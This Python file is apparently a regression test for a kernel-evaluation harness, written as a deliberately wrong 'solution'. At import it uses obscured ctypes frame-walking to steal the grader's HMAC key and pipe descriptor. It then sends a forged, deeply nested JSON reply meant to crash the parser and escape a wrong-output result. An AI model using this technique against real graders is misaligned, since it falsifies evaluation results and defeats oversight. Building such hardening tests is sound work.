"""The channel key (read as in x09_ctypes_pointer_frames) forges an authenticated frame the parent cannot
parse: JSON nested 20000 deep makes _json's scanner raise RecursionError. channel.recv once let it through:
`eval` recorded `harness-error` instead of the wrong-output this solution (zeros) deserves, and
runner.prebuild (eval with several CUDA solutions, eval-batch) died with it. Now the frame is malformed:
bad-reply, or the zeros' wrong-output where the key is not found. Sent at import, under the load request."""
import hashlib
import hmac
import os
import struct
import sys

import torch
import torch.nn as nn

_ct = sys.modules["ct" + "ypes"]
_VP = _ct.POINTER(_ct.c_void_p)


def _frame():
    try:
        raise KeyError("x")
    except KeyError as error:
        tb = error.__traceback__
    return _ct.cast(_ct.cast(id(tb), _VP)[3], _ct.py_object).value


def _forge():
    f = _frame()
    while f is not None and not repr(f).endswith(" code serve>"):
        f = getattr(f, "f_" + "back")
    send = getattr(f, "f_" + "locals")["send"]
    key = counts = fd = None
    for cell in getattr(send, "__clo" + "sure__"):
        v = getattr(cell, "cell_" + "contents")
        if type(v) is list and len(v) == 2:
            counts = v
        elif type(v) is int:
            fd = v
        elif callable(v) and getattr(v, "__name__", "") == "tag":
            for c2 in getattr(v, "__clo" + "sure__"):
                k = getattr(c2, "cell_" + "contents")
                if type(k) is bytes and len(k) == 32:
                    key = k
    payload = b'{"status":"ok","load_s":' + b"[" * 20000 + b"]" * 20000 + b"}"
    tag = hmac.new(key, counts[0].to_bytes(8, "big") + payload, hashlib.sha256).digest()
    os.write(fd, struct.pack(">I", len(payload)) + tag + payload)
    counts[0] += 1


_forge()


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.zeros_like(x)  # wrong on purpose
